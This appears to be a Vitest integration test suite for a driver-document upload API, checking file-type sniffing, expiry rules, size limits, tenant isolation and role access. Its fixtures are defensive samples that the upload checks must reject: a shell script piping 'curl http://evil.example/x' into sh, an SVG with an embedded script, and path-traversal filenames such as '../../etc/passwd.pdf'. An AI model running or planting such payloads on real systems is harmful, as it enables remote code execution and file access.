import { randomUUID } from 'node:crypto';
import { mkdtemp, readdir, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MAX_UPLOAD_BYTES } from '@ps/contracts';
import driversEn from '@ps/contracts/locales/drivers.en.json' with { type: 'json' };
import driversTa from '@ps/contracts/locales/drivers.ta.json' with { type: 'json' };
import en from '@ps/contracts/locales/en.json' with { type: 'json' };
import ta from '@ps/contracts/locales/ta.json' with { type: 'json' };
import { and, asc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertDocumentType, insertDriver } from '../../../test/factories/drivers.ts';
import { createTestContext, type TestContext } from '../../../test/harness.ts';
import { addUser, call, createTenant, type Headers, type Tenant } from '../../../test/kit.ts';
import { JPEG, multipart, type Part, PDF, PNG } from '../../../test/multipart.ts';
import { auditLog, driverDocuments, drivers } from '../../db/schema/index.ts';
import { addDays, dayAt } from '../../lib/dates.ts';

let ctx: TestContext;
let root: string;
let uploadDir: string;
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'ps-driver-documents-'));
  // Not there yet: the API makes it on the first upload.
  uploadDir = join(root, 'uploads');
  ctx = await createTestContext({ UPLOAD_DIR: uploadDir });
});
afterAll(async () => {
  await ctx?.close();
  await rm(root, { recursive: true, force: true });
});

const SHELL = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

/** The same form as a browser's FormData serialises it (Node's own encoder). */
async function formData(fields: Record<string, string>, file: { data: Buffer; name: string; type: string }) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  form.append('file', new Blob([file.data], { type: file.type }), file.name);
  const request = new Request('http://localhost/', { method: 'POST', body: form });
  return {
    payload: Buffer.from(await request.arrayBuffer()),
    headers: { 'content-type': request.headers.get('content-type') ?? '' } as Headers,
  };
}

type DocumentRecord = {
  id: number;
  driver_id: number;
  document_type_id: number;
  document_type_name: string;
  expiry_date: string | null;
  expired: boolean;
  file_name: string;
  content_type: string;
  size_bytes: number;
  created_at: string;
};
type Detail = { field: string; code: string; message: string };

async function upload(tenant: Tenant, form: { payload: Buffer; headers: Headers }, extra: Headers = {}, query = '') {
  const response = await ctx.app.inject({
    method: 'POST',
    url: `/api/driver/documents/add${query}`,
    headers: { ...tenant.headers, ...form.headers, ...extra },
    payload: form.payload,
  });
  return { status: response.statusCode, body: response.json() as Record<string, unknown>, response };
}

const fileForm = (driverId: number, typeId: number, file: { data: Buffer; filename?: string }, more: Part[] = []) =>
  multipart([
    { name: 'driver_id', value: String(driverId) },
    { name: 'document_type_id', value: String(typeId) },
    ...more,
    { name: 'file', data: file.data, ...(file.filename === undefined ? {} : { filename: file.filename }) },
  ]);

const list = (tenant: Tenant, driverId: number, query = '') =>
  call(ctx.app, 'GET', `/api/driver/documents/list?driver_id=${driverId}${query}`, tenant.headers);
const download = (tenant: Tenant, driverId: number, documentId: number) =>
  ctx.app.inject({ method: 'GET', url: `/api/driver/documents/file/${driverId}/${documentId}`, headers: tenant.headers });
const remove = (tenant: Tenant, driverId: number, documentId: number) =>
  call(ctx.app, 'DELETE', `/api/driver/documents/delete/${driverId}/${documentId}`, tenant.headers);

/** The files in the upload directory (none before the first upload made it). */
const storedFiles = async () => (await readdir(uploadDir).catch(() => [] as string[])).sort();
const rowsOf = (driverId: number) => ctx.db.select().from(driverDocuments).where(eq(driverDocuments.driver_id, driverId));

/** A company with a signed-in admin, a driver and a document type without expiry. */
async function setUp() {
  const tenant = await createTenant(ctx);
  const { driver } = await insertDriver(ctx.db, tenant.company.id);
  const type = await insertDocumentType(ctx.db, tenant.company.id, { name: `Insurance ${randomUUID().slice(0, 6)}` });
  return { tenant, driver, type };
}

describe('POST /api/driver/documents/add and the download', () => {
  it('stores a PDF, a JPEG and a PNG and gives each back byte for byte, as an attachment that is never sniffed or cached', async () => {
    const { tenant, driver, type } = await setUp();
    const samples = [
      { data: PDF, filename: 'ஓட்டுநர் உரிமம் (2026).pdf', type: 'application/pdf' },
      // The client's Content-Type says nothing: the bytes decide.
      { data: JPEG, filename: 'photo.jpeg', type: 'text/plain' },
      { data: PNG, filename: 'scan.png', type: 'image/png' },
    ];
    for (const sample of samples) {
      const form = await formData(
        { driver_id: String(driver.id), document_type_id: String(type.id) },
        { data: sample.data, name: sample.filename, type: sample.type },
      );
      const added = await upload(tenant, form);
      expect(added.status, JSON.stringify(added.body)).toBe(201);
      const record = added.body.data as DocumentRecord;
      const contentType = sample.filename.endsWith('.pdf')
        ? 'application/pdf'
        : sample.filename.endsWith('.png')
          ? 'image/png'
          : 'image/jpeg';
      expect(record).toEqual({
        id: expect.any(Number),
        driver_id: driver.id,
        document_type_id: type.id,
        document_type_name: type.name,
        expiry_date: null,
        expired: false,
        file_name: sample.filename,
        content_type: contentType,
        size_bytes: sample.data.length,
        created_at: expect.any(String),
      });

      const file = await download(tenant, driver.id, record.id);
      expect(file.statusCode).toBe(200);
      expect(file.rawPayload.equals(sample.data)).toBe(true);
      expect(file.headers['content-type']).toBe(contentType);
      expect(file.headers['content-length']).toBe(String(sample.data.length));
      expect(file.headers['x-content-type-options']).toBe('nosniff');
      expect(file.headers['cache-control']).toBe('private, no-store');
      expect(file.headers['content-encoding']).toBeUndefined();
      const disposition = String(file.headers['content-disposition']);
      expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/);
      expect(decodeURIComponent(disposition.split("filename*=UTF-8''")[1] ?? '')).toBe(sample.filename);
    }

    // The files carry the server's names, never the user's; the folder was made for them, private.
    const rows = await rowsOf(driver.id);
    expect(rows.map((row) => row.stored_name).sort()).toEqual(
      (await storedFiles()).filter((name) => rows.some((row) => row.stored_name === name)),
    );
    for (const row of rows) expect(row.stored_name).toMatch(/^[0-9a-f-]{36}\.(pdf|jpg|png)$/);
    expect((await stat(uploadDir)).mode & 0o777).toBe(0o700);

    // Each upload is audited with the row it wrote.
    const audits = await ctx.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.entity, 'driver_document'), eq(auditLog.company_id, tenant.company.id)))
      .orderBy(asc(auditLog.id));
    expect(audits.map((entry) => entry.action)).toEqual(['create', 'create', 'create']);
    expect(audits[0]?.changes).toMatchObject({ driver_id: { to: driver.id }, file_name: { to: samples[0]?.filename } });
  });

  it('names a PDF sent as statement.html statement.pdf, kept and downloaded so (never saved as a page that runs)', async () => {
    const { tenant, driver, type } = await setUp();
    const form = await formData(
      { driver_id: String(driver.id), document_type_id: String(type.id) },
      { data: PDF, name: 'statement.html', type: 'text/html' },
    );
    const added = await upload(tenant, form);
    expect(added.status, JSON.stringify(added.body)).toBe(201);
    const record = added.body.data as DocumentRecord;
    expect(record).toMatchObject({ file_name: 'statement.pdf', content_type: 'application/pdf' });
    const file = await download(tenant, driver.id, record.id);
    expect(String(file.headers['content-disposition'])).toBe(`attachment; filename="statement.pdf"; filename*=UTF-8''statement.pdf`);

    // A row kept before names were corrected is downloaded with the right extension too.
    await ctx.db.update(driverDocuments).set({ file_name: 'old-statement.html' }).where(eq(driverDocuments.id, record.id));
    const old = await download(tenant, driver.id, record.id);
    expect(String(old.headers['content-disposition'])).toContain('filename="old-statement.pdf"');
  });

  it('takes an expiry date, and needs one when the type has expiry (400 document_expiry_required, nothing kept)', async () => {
    const { tenant, driver } = await setUp();
    const licence = await insertDocumentType(ctx.db, tenant.company.id, { name: `Licence ${randomUUID().slice(0, 6)}`, has_expiry: true });
    const before = await storedFiles();
    for (const [language, catalogue] of [
      ['en', driversEn],
      ['ta', driversTa],
    ] as const) {
      const refused = await upload(tenant, fileForm(driver.id, licence.id, { data: PDF, filename: 'licence.pdf' }), {
        'accept-language': language,
      });
      expect(refused.status).toBe(400);
      expect(refused.body).toMatchObject({ code: 'document_expiry_required', message: catalogue.errors.document_expiry_required });
      expect(refused.body.details).toEqual([
        { field: 'expiry_date', code: 'errors.document_expiry_required', message: catalogue.errors.document_expiry_required },
      ]);
    }
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).toEqual(before);

    // A new document that has already run out is refused, in the caller's language (on UTC's day, as asked)...
    const today = dayAt(new Date(), 'UTC');
    for (const [language, catalogue] of [
      ['en', driversEn],
      ['ta', driversTa],
    ] as const) {
      const expired = await upload(
        tenant,
        fileForm(driver.id, licence.id, { data: PDF, filename: 'licence.pdf' }, [{ name: 'expiry_date', value: addDays(today, -1) }]),
        { 'accept-language': language },
        '?time_zone=UTC',
      );
      expect(expired.status).toBe(400);
      expect(expired.body.details).toEqual([
        { field: 'expiry_date', code: 'errors.expiry_in_past', message: catalogue.errors.expiry_in_past },
      ]);
    }
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).toEqual(before);
    // ...and the expiry day itself still counts.
    const added = await upload(
      tenant,
      fileForm(driver.id, licence.id, { data: PDF, filename: 'licence.pdf' }, [{ name: 'expiry_date', value: today }]),
      {},
      '?time_zone=UTC',
    );
    expect(added.status).toBe(201);
    expect(added.body.data).toMatchObject({ expiry_date: today, expired: false, document_type_name: licence.name });
  });

  it("a licence document gives the driver's licence expiry, the latest held; a delete takes it back; the profile cannot type it", async () => {
    const { tenant, driver } = await setUp();
    const licence = await insertDocumentType(ctx.db, tenant.company.id, {
      name: `Driving licence ${randomUUID().slice(0, 6)}`,
      required: true,
      has_expiry: true,
      is_licence: true,
    });
    const today = dayAt(new Date(), 'UTC');
    const later = addDays(today, 400);
    const sooner = addDays(today, 30);
    const scan = (expiry: string) =>
      upload(
        tenant,
        fileForm(driver.id, licence.id, { data: PDF, filename: 'licence.pdf' }, [{ name: 'expiry_date', value: expiry }]),
        {},
        '?time_zone=UTC',
      );
    const driverOf = async () =>
      (await call(ctx.app, 'GET', `/api/driver/get/${driver.id}`, tenant.headers)).body.data as {
        licence_expiry: string | null;
        eligibility: { reasons: { code: string; date: string | null }[] };
      };

    const renewed = await scan(later);
    expect(renewed.status).toBe(201);
    const old = await scan(sooner);
    expect(old.status).toBe(201);
    // The latest licence held is the driver's, whichever was uploaded last; the profile and the list say the same date.
    expect((await driverOf()).licence_expiry).toBe(later);
    const listed = await call(ctx.app, 'GET', '/api/driver/list?page_size=1000', tenant.headers);
    expect((listed.body.data as { id: number; licence_expiry: string | null }[]).find((row) => row.id === driver.id)?.licence_expiry).toBe(
      later,
    );
    const changes = await ctx.db
      .select({ changes: auditLog.changes })
      .from(auditLog)
      .where(and(eq(auditLog.entity, 'driver'), eq(auditLog.entity_id, String(driver.id))))
      .orderBy(asc(auditLog.id));
    expect(changes.map((row) => row.changes)).toEqual([{ licence_expiry: { from: null, to: later } }]);

    // The profile cannot type another date (nor clear it), in either language; the same date is accepted unchanged.
    for (const [language, catalogue] of [
      ['en', driversEn],
      ['ta', driversTa],
    ] as const) {
      for (const typed of [addDays(today, 3000), null]) {
        const refused = await call(
          ctx.app,
          'PATCH',
          `/api/driver/update/${driver.id}`,
          { ...tenant.headers, 'accept-language': language },
          { licence_expiry: typed },
        );
        expect(refused.status).toBe(400);
        expect(refused.body.details).toEqual([
          { field: 'licence_expiry', code: 'errors.licence_expiry_from_document', message: catalogue.errors.licence_expiry_from_document },
        ]);
      }
    }
    const same = await call(ctx.app, 'PATCH', `/api/driver/update/${driver.id}`, tenant.headers, {
      licence_expiry: later,
      first_name: 'Anbu',
    });
    expect(same.status).toBe(200);
    const added = await call(ctx.app, 'POST', '/api/auth/driver/add', tenant.headers, {
      first_name: 'Ravi',
      last_name: 'Kumar',
      email: `ravi.${randomUUID().slice(0, 8)}@example.com`,
      temporary_password: 'Tmp-4821x-driver',
      licence_expiry: later,
    });
    expect(added.status).toBe(400);
    expect((added.body.details as Detail[]).map((detail) => detail.code)).toEqual(['errors.licence_expiry_from_document']);

    // Deleting the newer scan leaves the older one's date; deleting that leaves none (the licence is then missing).
    await remove(tenant, driver.id, (renewed.body.data as DocumentRecord).id);
    expect((await driverOf()).licence_expiry).toBe(sooner);
    await remove(tenant, driver.id, (old.body.data as DocumentRecord).id);
    const without = await driverOf();
    expect(without.licence_expiry).toBeNull();
    expect(without.eligibility.reasons.map((reason) => reason.code)).toContain('document_missing');
    expect(without.eligibility.reasons.map((reason) => reason.code)).not.toContain('licence_expired');
  });

  it('refuses a shell script named x.pdf and an SVG named x.png by their bytes, saying what they look like (EN and TA)', async () => {
    const { tenant, driver, type } = await setUp();
    const before = await storedFiles();
    const cases = [
      { data: SHELL, filename: 'x.pdf', found: 'text' },
      { data: SVG, filename: 'x.png', found: 'svg' },
      { data: Buffer.alloc(0), filename: 'empty.pdf', found: 'empty' },
    ] as const;
    for (const sample of cases) {
      for (const [language, catalogue] of [
        ['en', driversEn],
        ['ta', driversTa],
      ] as const) {
        const refused = await upload(tenant, fileForm(driver.id, type.id, sample), { 'accept-language': language });
        expect(refused.status).toBe(400);
        const message = catalogue.errors.file_type_not_allowed.replace('{{found}}', catalogue.uploads.found[sample.found]);
        expect(refused.body).toMatchObject({ code: 'file_type_not_allowed', message });
        expect(refused.body.details).toEqual([{ field: 'file', code: 'errors.file_type_not_allowed', message }]);
      }
    }
    expect((await upload(tenant, fileForm(driver.id, type.id, { data: SVG, filename: 'x.png' }))).body.message).toBe(
      'Only PDF, JPEG and PNG files can be uploaded: this file is an SVG image.',
    );
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses a file over 10 MB with 413 in the caller’s language, keeping no row and no file; 10 MB exactly is fine', async () => {
    const { tenant, driver, type } = await setUp();
    const before = await storedFiles();
    const big = Buffer.concat([PDF, Buffer.alloc(20 * 1024 * 1024 - PDF.length, 0x20)]);
    for (const [language, catalogue] of [
      ['en', en],
      ['ta', ta],
    ] as const) {
      const refused = await upload(tenant, fileForm(driver.id, type.id, { data: big, filename: 'big.pdf' }), {
        'accept-language': language,
      });
      expect(refused.status).toBe(413);
      expect(refused.body).toEqual({ code: 'payload_too_large', error: 'payload_too_large', message: catalogue.errors.payload_too_large });
    }
    const justOver = Buffer.concat([PDF, Buffer.alloc(MAX_UPLOAD_BYTES + 1 - PDF.length, 0x20)]);
    expect((await upload(tenant, fileForm(driver.id, type.id, { data: justOver, filename: 'over.pdf' }))).status).toBe(413);
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).toEqual(before);

    const limit = Buffer.concat([PDF, Buffer.alloc(MAX_UPLOAD_BYTES - PDF.length, 0x20)]);
    const added = await upload(tenant, fileForm(driver.id, type.id, { data: limit, filename: 'limit.pdf' }));
    expect(added.status).toBe(201);
    expect((added.body.data as DocumentRecord).size_bytes).toBe(MAX_UPLOAD_BYTES);
  });

  it('answers the 413 over a real connection too (the rest of the body is read, not cut off), keeping nothing', async () => {
    const { tenant, driver, type } = await setUp();
    const before = await storedFiles();
    const address = await ctx.app.listen({ port: 0, host: '127.0.0.1' });
    const form = new FormData();
    form.append('driver_id', String(driver.id));
    form.append('document_type_id', String(type.id));
    form.append('file', new Blob([PDF, Buffer.alloc(MAX_UPLOAD_BYTES)]), 'big.pdf');
    const response = await fetch(`${address}/api/driver/documents/add`, {
      method: 'POST',
      body: form,
      headers: { ...tenant.headers, 'accept-language': 'ta' },
    });
    expect(response.status).toBe(413);
    expect(await response.json()).toMatchObject({ code: 'payload_too_large', message: ta.errors.payload_too_large });
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses an over-long field and too many fields with 413 as well, keeping nothing', async () => {
    const { tenant, driver, type } = await setUp();
    const before = await storedFiles();
    const long = fileForm(driver.id, type.id, { data: PDF, filename: 'x.pdf' }, [
      { name: 'expiry_date', value: `2026-01-01${' '.repeat(200)}` },
    ]);
    expect((await upload(tenant, long)).status).toBe(413);
    const many = fileForm(
      driver.id,
      type.id,
      { data: PDF, filename: 'x.pdf' },
      Array.from({ length: 9 }, (_, index) => ({ name: `extra_${index}`, value: 'x' })),
    );
    const refused = await upload(tenant, many);
    expect(refused.status).toBe(413);
    expect(refused.body).toMatchObject({ code: 'payload_too_large' });
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses a name with a path, control characters or over 200 characters (400 file_name_invalid, EN and TA)', async () => {
    const { tenant, driver, type } = await setUp();
    const before = await storedFiles();
    for (const filename of ['../../etc/passwd.pdf', '..\\..\\boot.pdf', 'a\u0007b.pdf', `${'x'.repeat(197)}.pdf`]) {
      for (const [language, catalogue] of [
        ['en', driversEn],
        ['ta', driversTa],
      ] as const) {
        const refused = await upload(tenant, fileForm(driver.id, type.id, { data: PDF, filename }), { 'accept-language': language });
        expect(refused.status, filename).toBe(400);
        expect(refused.body).toMatchObject({ code: 'file_name_invalid', message: catalogue.errors.file_name_invalid });
        expect(refused.body.details).toEqual([
          { field: 'file', code: 'errors.file_name_invalid', message: catalogue.errors.file_name_invalid },
        ]);
      }
    }
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).toEqual(before);
    expect((await upload(tenant, fileForm(driver.id, type.id, { data: PDF, filename: `${'x'.repeat(196)}.pdf` }))).status).toBe(201);
  });

  it('asks for the file when there is none, or an empty choice (400 file_missing)', async () => {
    const { tenant, driver, type } = await setUp();
    const fields = [
      { name: 'driver_id', value: String(driver.id) },
      { name: 'document_type_id', value: String(type.id) },
    ];
    for (const [language, catalogue] of [
      ['en', driversEn],
      ['ta', driversTa],
    ] as const) {
      const none = await upload(tenant, multipart(fields), { 'accept-language': language });
      expect(none.status).toBe(400);
      expect(none.body).toMatchObject({ code: 'file_missing', message: catalogue.errors.file_missing });
      expect(none.body.details).toEqual([{ field: 'file', code: 'errors.file_missing', message: catalogue.errors.file_missing }]);
    }
    // What a browser sends when no file was chosen: a file part with an empty name and no bytes.
    const unchosen = await upload(tenant, multipart([...fields, { name: 'file', filename: '', data: Buffer.alloc(0) }]));
    expect(unchosen.body).toMatchObject({ code: 'file_missing' });
    expect(await rowsOf(driver.id)).toEqual([]);
  });

  it('validates the fields like any body: 400 details in the caller’s language, unknown fields refused, nothing kept', async () => {
    const { tenant, driver, type } = await setUp();
    const before = await storedFiles();
    const form = multipart([
      { name: 'driver_id', value: 'abc' },
      { name: 'expiry_date', value: '2026-02-30' },
      { name: 'company_id', value: '1' },
      { name: 'file', filename: 'x.pdf', data: PDF },
    ]);
    for (const [language, catalogue] of [
      ['en', en],
      ['ta', ta],
    ] as const) {
      const refused = await upload(tenant, form, { 'accept-language': language });
      expect(refused.status).toBe(400);
      expect(refused.body.code).toBe('validation_failed');
      const details = refused.body.details as Detail[];
      expect(details.map((detail) => detail.field).sort()).toEqual(['company_id', 'document_type_id', 'driver_id', 'expiry_date']);
      expect(details.find((detail) => detail.field === 'driver_id')?.message).toBe(catalogue.validation.invalidType);
      expect(details.find((detail) => detail.field === 'company_id')?.message).toBe(catalogue.validation.unknownField);
      expect(details.find((detail) => detail.field === 'expiry_date')?.message).toBe(catalogue.validation.date);
    }
    // A second file part, under another name, counts as an unknown field too.
    const extra = await upload(
      tenant,
      fileForm(driver.id, type.id, { data: PDF, filename: 'a.pdf' }, [{ name: 'photo', data: PNG, filename: 'p.png' }]),
    );
    expect(extra.status).toBe(413);
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).toEqual(before);
  });

  it('takes multipart only, and only on this route: JSON is 415 here, multipart is 415 elsewhere', async () => {
    const { tenant, driver, type } = await setUp();
    const json = await call(ctx.app, 'POST', '/api/driver/documents/add', tenant.headers, {
      driver_id: driver.id,
      document_type_id: type.id,
    });
    expect(json.status).toBe(415);
    expect(json.body).toMatchObject({ code: 'unsupported_media_type', message: en.errors.unsupported_media_type });
    const form = multipart([
      { name: 'driver_id', value: String(driver.id) },
      { name: 'price_per_hour', value: '1500' },
      { name: 'effective_from', value: '2026-01-01' },
    ]);
    const elsewhere = await ctx.app.inject({
      method: 'POST',
      url: '/api/driver/price_per_hour/add',
      headers: { ...tenant.headers, ...form.headers },
      payload: form.payload,
    });
    expect(elsewhere.statusCode).toBe(415);
  });

  it("refuses another company's document type with 400 on document_type_id, and removes the file it had placed", async () => {
    const { tenant, driver } = await setUp();
    const other = await setUp();
    const before = await storedFiles();
    const refused = await upload(tenant, fileForm(driver.id, other.type.id, { data: PDF, filename: 'x.pdf' }));
    expect(refused.status).toBe(400);
    expect((refused.body.details as Detail[]).map((detail) => detail.field)).toEqual(['document_type_id']);
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses a removed driver (404)', async () => {
    const { tenant, driver, type } = await setUp();
    await ctx.db.update(drivers).set({ deleted_at: new Date() }).where(eq(drivers.id, driver.id));
    expect((await upload(tenant, fileForm(driver.id, type.id, { data: PDF, filename: 'x.pdf' }))).status).toBe(404);
  });
});

describe('GET /api/driver/documents/list', () => {
  it("lists the driver's documents newest first with their types and whether they expired on the request's day", async () => {
    const { tenant, driver, type } = await setUp();
    const { driver: colleague } = await insertDriver(ctx.db, tenant.company.id);
    const licence = await insertDocumentType(ctx.db, tenant.company.id, { name: `Licence ${randomUUID().slice(0, 6)}`, has_expiry: true });
    const today = dayAt(new Date(), 'UTC');
    const first = await upload(tenant, fileForm(driver.id, type.id, { data: PDF, filename: 'one.pdf' }));
    const second = await upload(
      tenant,
      fileForm(driver.id, licence.id, { data: PNG, filename: 'two.png' }, [{ name: 'expiry_date', value: today }]),
      {},
      '?time_zone=UTC',
    );
    await upload(tenant, fileForm(colleague.id, type.id, { data: PDF, filename: 'colleague.pdf' }));

    const listed = await list(tenant, driver.id);
    expect(listed.status).toBe(200);
    expect(listed.body.data).toEqual([second.body.data, first.body.data]);
    expect(listed.body.pagination).toEqual({ page: 1, page_size: 2, total: 2 });
    // The expiry day itself is still valid; the day after, it has expired (a zone a day ahead of UTC's today, at least).
    expect((listed.body.data as DocumentRecord[])[0]).toMatchObject({
      expiry_date: today,
      expired: false,
      document_type_name: licence.name,
    });
    const ahead = dayAt(new Date(), 'Pacific/Kiritimati') > today;
    const inKiritimati = await list(tenant, driver.id, '&time_zone=Pacific/Kiritimati');
    expect((inKiritimati.body.data as DocumentRecord[])[0]?.expired).toBe(ahead);
    expect((await list(tenant, driver.id, '&time_zone=Mars/Olympus')).status).toBe(400);
    expect((await list(tenant, 2_147_483_000)).status).toBe(404);
  });
});

describe('DELETE /api/driver/documents/delete/{driver_id}/{document_id}', () => {
  it('removes the row (audited with what it was) and then its file; a second delete, or another driver’s path, is 404', async () => {
    const { tenant, driver, type } = await setUp();
    const { driver: colleague } = await insertDriver(ctx.db, tenant.company.id);
    const added = await upload(tenant, fileForm(driver.id, type.id, { data: JPEG, filename: 'id.jpg' }));
    const id = (added.body.data as DocumentRecord).id;
    const [row] = await rowsOf(driver.id);
    expect(await storedFiles()).toContain(row?.stored_name);

    expect((await remove(tenant, colleague.id, id)).status).toBe(404);
    const deleted = await remove(tenant, driver.id, id);
    expect(deleted.status).toBe(200);
    expect(deleted.body).toEqual({ message: en.success.deleted });
    expect(await rowsOf(driver.id)).toEqual([]);
    expect(await storedFiles()).not.toContain(row?.stored_name);
    const [entry] = await ctx.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.entity, 'driver_document'), eq(auditLog.entity_id, String(id)), eq(auditLog.action, 'delete')));
    expect(entry?.changes).toMatchObject({
      file_name: { from: 'id.jpg' },
      stored_name: { from: row?.stored_name },
      driver_id: { from: driver.id },
    });
    expect((await remove(tenant, driver.id, id)).status).toBe(404);
    expect((await download(tenant, driver.id, id)).statusCode).toBe(404);
  });
});

describe('another company and other roles', () => {
  it("gives a second company's admin 404 on list, add, delete and download, and leaves the first company's data alone", async () => {
    const { tenant, driver, type } = await setUp();
    const added = await upload(tenant, fileForm(driver.id, type.id, { data: PDF, filename: 'mine.pdf' }));
    const id = (added.body.data as DocumentRecord).id;
    const rowsBefore = await rowsOf(driver.id);
    const filesBefore = await storedFiles();
    const listBefore = (await list(tenant, driver.id)).body;

    const intruder = await setUp();
    expect((await list(intruder.tenant, driver.id)).status).toBe(404);
    expect((await upload(intruder.tenant, fileForm(driver.id, intruder.type.id, { data: PDF, filename: 'theirs.pdf' }))).status).toBe(404);
    expect((await upload(intruder.tenant, fileForm(driver.id, type.id, { data: PDF, filename: 'theirs.pdf' }))).status).toBe(404);
    expect((await remove(intruder.tenant, driver.id, id)).status).toBe(404);
    expect((await remove(intruder.tenant, intruder.driver.id, id)).status).toBe(404);
    const file = await download(intruder.tenant, driver.id, id);
    expect(file.statusCode).toBe(404);
    expect(file.json()).toMatchObject({ code: 'not_found' });
    expect((await download(intruder.tenant, intruder.driver.id, id)).statusCode).toBe(404);

    expect(await rowsOf(driver.id)).toEqual(rowsBefore);
    expect(await storedFiles()).toEqual(filesBefore);
    expect((await list(tenant, driver.id)).body).toEqual(listBefore);
    expect((await download(tenant, driver.id, id)).rawPayload.equals(PDF)).toBe(true);
  });

  it('gives a driver (role driver) 403 on every document call, before reading anything', async () => {
    const { tenant, driver, type } = await setUp();
    const added = await upload(tenant, fileForm(driver.id, type.id, { data: PDF, filename: 'mine.pdf' }));
    const id = (added.body.data as DocumentRecord).id;
    const driverUser = await addUser(ctx, tenant.company.id, 'driver');
    const filesBefore = await storedFiles();
    expect((await list(driverUser, driver.id)).status).toBe(403);
    expect((await upload(driverUser, fileForm(driver.id, type.id, { data: PDF, filename: 'x.pdf' }))).status).toBe(403);
    expect((await remove(driverUser, driver.id, id)).status).toBe(403);
    expect((await download(driverUser, driver.id, id)).statusCode).toBe(403);
    expect(await storedFiles()).toEqual(filesBefore);
    expect(await rowsOf(driver.id)).toHaveLength(1);
  });
});
